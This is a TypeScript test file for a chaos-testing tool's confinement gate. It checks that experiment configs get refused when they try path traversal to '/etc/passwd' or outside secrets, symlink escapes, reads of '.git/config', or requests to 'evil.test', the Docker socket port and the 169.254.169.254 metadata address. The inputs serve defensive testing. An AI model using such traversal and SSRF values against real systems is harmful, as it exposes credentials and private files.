import assert from "node:assert/strict";
import { cp, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, describe, it, type TestContext } from "node:test";
import { fileURLToPath } from "node:url";
import { checkConfinement } from "../../../src/assembly/confinement/check-confinement.ts";
import { type Allowances, readConfinement } from "../../../src/assembly/confinement/confinement.ts";
import { loadExperiment } from "../../../src/assembly/load-experiment.ts";
import { ProblemsError } from "../../../src/files/yaml/problem.ts";
import { BrownoutError } from "../../../src/values/errors.ts";
import { temporaryFolder } from "../../support/temporary-folder.ts";

const pair = fileURLToPath(new URL("../../../fixtures/graphs/pair.yaml", import.meta.url));

interface Trial {
  /** Keys in place of the experiment's. */
  readonly changes?: Readonly<Record<string, unknown>>;
  /** Texts of files by their path from the repository's root. */
  readonly files?: Readonly<Record<string, string>>;
  readonly links?: Readonly<Record<string, string>>;
  readonly on?: string;
  /** Paths of `allowStart` are from the repository's root. */
  readonly allowances?: Partial<Allowances>;
}

/** Reads an experiment in a repository of its own as a gate does. Resolves with what is wrong: path and message, a line each. */
async function refusals(t: TestContext, { changes, files = {}, links = {}, on = "local", allowances }: Trial) {
  const outside = await temporaryFolder(t);
  const root = join(outside, "repository");
  await mkdir(join(root, ".git"), { recursive: true });
  await writeFile(join(root, ".git/config"), "token: hunter2\n");
  await writeFile(join(outside, "secret.yaml"), "token: hunter2\n");
  await cp(pair, join(root, "pair.yaml"));
  const experiment = {
    name: "tried",
    system: { graph: "../pair.yaml" },
    load: { users: { request: "GET front/", rate: "10/s" } },
    phases: { baseline: "1s", fault: "1s", recovery: "1s" },
    "steady-state": ["users.p50 < 1s"],
    faults: [{ type: "latency", on: "front -> back", latency: "200ms" }],
    expect: ["users.rate > 1/s"],
    ...changes,
  };
  // One key a line, so that lines say something; JSON is YAML.
  const lines = Object.entries(experiment).map(([key, value]) => `${JSON.stringify(key)}: ${JSON.stringify(value)}`);
  for (const [path, text] of Object.entries({ "experiments/tried.yaml": lines.join("\n"), ...files })) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), text);
  }
  for (const [path, target] of Object.entries(links)) await symlink(target, join(root, path));
  const { env = [], allowHost = [], allowStart = [] } = allowances ?? {};
  const allowed = { env, allowHost, allowStart: allowStart.map((path) => join(root, path)) };
  const confinement = readConfinement(allowed, { root: await realpath(root), under: "--ci" });
  try {
    const loaded = await loadExperiment(join(root, "experiments/tried.yaml"), { var: {}, confinement });
    checkConfinement(loaded, { on }, confinement);
    return "";
  } catch (error) {
    assert.ok(error instanceof BrownoutError, String(error));
    assert.equal(error.exitCode, 64);
    // Nothing of a file that may not be read.
    assert.doesNotMatch(error.message, /hunter2/);
    if (!(error instanceof ProblemsError)) return `${error.code}: ${error.message}`;
    return error.problems.map(({ line, path, message }) => `${line} ${path}: ${message}`).join("\n");
  }
}

process.env.CONFINED_TEST = "somebody";

/** Stands for an installed vegeta: without one, a load that it sends is refused for that. */
const bin = await mkdtemp(join(tmpdir(), "brownout-test-"));
after(() => rm(bin, { recursive: true }));
await writeFile(join(bin, "vegeta"), "#!/bin/sh\n", { mode: 0o755 });
process.env.PATH = `${bin}:${process.env.PATH}`;

const program = { name: "own", services: { front: { command: "node front.js" } } };
const graph = JSON.stringify(program);
const ownProgram = {
  system: { graph: "../own.yaml" },
  faults: [{ type: "kill", on: "front" }],
};
const external = (system: Readonly<Record<string, unknown>>) => ({
  system: { external: { services: { front: "http://127.0.0.1:8080", back: {} }, ...system } },
});
const replaying = { type: "latency", on: "front -> back" };
const nothing = "no service that is started for it";
const notInIt = "is not in /.*/repository, and under --ci";

describe("what a gate refuses of an experiment, and takes where it is allowed", () => {
  it("takes one that keeps to its own services", async (t) => {
    assert.equal(await refusals(t, {}), "");
  });

  const secret = { title: "as ${CONFINED_TEST} has it" };
  const tried: Readonly<Record<string, Trial & { readonly refused: RegExp | readonly RegExp[]; readonly by?: Trial }>> =
    {
      "a variable of the environment": {
        changes: secret,
        refused: /title: the variable CONFINED_TEST is not set; give --env CONFINED_TEST/,
        by: { allowances: { env: ["CONFINED_TEST"] } },
      },
      "a graph outside": {
        changes: { system: { graph: "../../secret.yaml" } },
        refused: new RegExp(`2 system.graph: .*${notInIt}`),
      },
      "a graph outside, by its absolute path": {
        changes: { system: { graph: "/etc/passwd" } },
        refused: new RegExp(`2 system.graph: .*${notInIt}`),
      },
      "a graph outside, by a link": {
        changes: { system: { graph: "../link.yaml" } },
        links: { "link.yaml": "../secret.yaml" },
        refused: new RegExp(`2 system.graph: .*${notInIt}`),
      },
      "a graph outside, by a link to its folder": {
        changes: { system: { graph: "../out/secret.yaml" } },
        links: { out: ".." },
        refused: new RegExp(`2 system.graph: .*${notInIt}`),
      },
      "git's own folder": {
        changes: { system: { graph: "../.git/config" } },
        refused: /2 system.graph: .*git.s own.*credentials/,
      },
      "a proto file that takes in what is outside": {
        changes: {
          load: { users: { grpc: { proto: "a.proto", method: "a.A/Get", address: "127.0.0.1:1" }, rate: "1/s" } },
        },
        files: { "experiments/a.proto": 'syntax = "proto3"; import "../../secret.yaml";' },
        refused: new RegExp(`E_CONFINED: .*${notInIt}`),
      },
      "a proto file whose imports can't be told": {
        changes: {
          load: { users: { grpc: { proto: "a.proto", method: "a.A/Get", address: "127.0.0.1:1" }, rate: "1/s" } },
        },
        files: { "experiments/a.proto": 'syntax = "proto3"; import/**/"../../secret.yaml";' },
        refused: /E_CONFINED: .*an import is written/,
      },
      "an earlier run outside": {
        changes: { faults: [{ ...replaying, latency: { like: "../../runs/old", phase: "fault" } }] },
        refused: new RegExp(`E_CONFINED: .*runs/old/journal.jsonl ${notInIt}`),
      },
      "an earlier run outside, by a link": {
        changes: { faults: [{ ...replaying, latency: { like: "../linked/runs/old", phase: "fault" } }] },
        links: { linked: ".." },
        refused: new RegExp(`E_CONFINED: .*linked/runs/old/journal.jsonl ${notInIt}`),
      },
      "a load on another host": {
        changes: {
          load: {
            users: { requests: [{ request: "GET front/" }, { request: "GET http://evil.test/a" }], rate: "1/s" },
          },
        },
        refused: new RegExp(`3 load.users.requests\\[1\\].request: "evil.test:80" is ${nothing}`),
        by: { allowances: { allowHost: ["evil.test"] } },
      },
      "a load on a host that a variable of the environment names": {
        changes: { load: { users: { request: "GET http://${CONFINED_TEST}.evil.test/", rate: "1/s" } } },
        allowances: { env: ["CONFINED_TEST"] },
        // Without its value.
        refused: new RegExp(`3 load.users.request: "http://\\$\\{CONFINED_TEST\\}.evil.test/" is ${nothing}`),
        by: { allowances: { env: ["CONFINED_TEST"], allowHost: ["somebody.evil.test"] } },
      },
      "a load on loopback, which is not its own": {
        changes: { load: { users: { request: "GET http://127.0.0.1:2375/containers/json", rate: "1/s" } } },
        refused: new RegExp(`3 load.users.request: "127.0.0.1:2375" is ${nothing}`),
        by: { allowances: { allowHost: ["127.0.0.1:2375"] } },
      },
      "a step of a visit on a host that a template makes": {
        changes: {
          load: { users: { steps: [{ think: "1s" }, { request: "GET http://a{{counter}}.test/" }], rate: "1/s" } },
        },
        refused: /3 load.users.steps\[1\].request: where .* can't be told beforehand/,
      },
      "a command to another host": {
        changes: { load: { users: { redis: { command: "GET a", address: "10.0.0.1:6379" }, rate: "1/s" } } },
        refused: new RegExp(`3 load.users.redis: "10.0.0.1:6379" is ${nothing}`),
        by: { allowances: { allowHost: ["10.0.0.1:6379"] } },
      },
      "a signal of another host": {
        changes: { signals: { up: { prometheus: "http://169.254.169.254", query: "up" } } },
        refused: new RegExp(`8 signals.up.prometheus: "169.254.169.254:80" is ${nothing}`),
        by: { allowances: { allowHost: ["169.254.169.254"] } },
      },
      "programs of a graph": {
        changes: ownProgram,
        files: { "own.yaml": graph, "trusted.yaml": `${graph} ` },
        refused: /2 system.graph: the graph has programs \(front\).*--allow-start/,
        allowances: { allowStart: ["trusted.yaml"] },
        by: { files: { "own.yaml": graph, "trusted.yaml": graph } },
      },
      "a Compose file": {
        on: "compose",
        changes: { system: { graph: "../pair.yaml", compose: "../compose.yaml" } },
        files: { "compose.yaml": "services: { front: { image: evil, privileged: true } }" },
        refused: /2 system.compose: .*compose.yaml says what is started/,
        by: { allowances: { allowStart: ["compose.yaml"] } },
      },
      "several Compose files, each at its own place": {
        on: "compose",
        changes: { system: { graph: "../pair.yaml", compose: { file: ["../a.yaml", "../b.yaml"] } } },
        files: { "a.yaml": "services: {}", "b.yaml": "services: { }" },
        refused: [/2 system.compose.file\[0\]: .*a.yaml says/, /2 system.compose.file\[1\]: .*b.yaml says/],
      },
      "manifests of a folder": {
        on: "kubernetes",
        changes: { system: { kubernetes: { namespace: "shop", manifests: ["../k8s"] } } },
        files: { "k8s/a.yaml": "a: 1", "k8s/b.yaml": "b: 1" },
        refused: [/2 system.kubernetes.manifests\[0\]: .*b.yaml says/],
        allowances: { allowStart: ["k8s/a.yaml"] },
        by: { allowances: { allowStart: ["k8s/a.yaml", "k8s/b.yaml"] } },
      },
      "a context of the kubeconfig": {
        on: "kubernetes",
        changes: { system: { kubernetes: { context: "production" } } },
        refused: /2 system.kubernetes.context: .*--context/,
      },
      "any image in the cluster": {
        on: "kubernetes",
        changes: {
          system: { kubernetes: { namespace: "shop" } },
          load: { from: { cluster: { image: "evil" } }, users: { request: "GET front/", rate: "1/s" } },
        },
        refused: /3 load.from: any image/,
      },
      "any project of the machine": {
        on: "compose",
        changes: { system: { compose: { file: "../compose.yaml", project: "other", existing: true } } },
        files: { "compose.yaml": "services: {}" },
        allowances: { allowStart: ["compose.yaml"] },
        refused: /2 system.compose.project: any project/,
      },
      "a way in to another host": {
        on: "kubernetes",
        changes: { system: { kubernetes: { reach: { front: "https://evil.test" } } } },
        refused: new RegExp(`2 system.kubernetes.reach.front: "evil.test:443" is ${nothing}`),
        by: { allowances: { allowHost: ["evil.test:443"] } },
      },
      "targets of vegeta, which may be anything": {
        changes: { load: { users: { vegeta: "targets.txt", rate: "1/s" } } },
        files: { "experiments/targets.txt": "GET http://evil.test/\n@/etc/passwd" },
        refused: /3 load.users.vegeta: .*write the load as a request/,
      },
      "a platform of which nothing is known": {
        on: "another",
        refused: /2 system: .*platform another/,
      },
      "services elsewhere, a listener for all, and processes": {
        on: "external",
        changes: {
          ...external({
            services: { front: { url: "http://127.0.0.1:8080", pid: 4711 }, back: {} },
            edges: { "front -> back": { listen: "0.0.0.0:9001", upstream: "10.0.0.9:80" } },
          }),
        },
        refused: [
          new RegExp(`services.front: "127.0.0.1:8080" is ${nothing}`),
          new RegExp(`external.edges\\["front -> back"\\].upstream: "10.0.0.9:80" is ${nothing}`),
          /external.edges\["front -> back"\].listen: 0.0.0.0:9001 is open to others/,
          /services.front.pid: pid could name any process/,
        ],
      },
      "services elsewhere that are allowed": {
        on: "external",
        changes: external({ edges: { "front -> back": { listen: "127.0.0.1:9001", upstream: "127.0.0.1:9002" } } }),
        refused: [/"127.0.0.1:8080"/, /"127.0.0.1:9002"/],
        by: { allowances: { allowHost: ["127.0.0.1"] } },
      },
    };
  for (const [what, { refused, by, ...trial }] of Object.entries(tried)) {
    it(what, async (t) => {
      const told = await refusals(t, trial);
      const patterns = refused instanceof RegExp ? [refused] : refused;
      for (const pattern of patterns) assert.match(told, pattern);
      assert.equal(told.split("\n").length, patterns.length, told);
      if (by !== undefined) assert.equal(await refusals(t, { ...trial, ...by }), "");
    });
  }
});

it("an experiment that is itself a link to what is outside is not read", async (t) => {
  const folder = await temporaryFolder(t);
  await mkdir(join(folder, "repository/.git"), { recursive: true });
  await writeFile(join(folder, "secret.yaml"), "token: hunter2");
  await symlink("../secret.yaml", join(folder, "repository/a.yaml"));
  const place = { root: await realpath(join(folder, "repository")), under: "--ci" };
  const confinement = readConfinement({ env: [], allowHost: [], allowStart: [] }, place);
  await assert.rejects(loadExperiment(join(folder, "repository/a.yaml"), { var: {}, confinement }), {
    code: "E_CONFINED",
    exitCode: 64,
  });
});
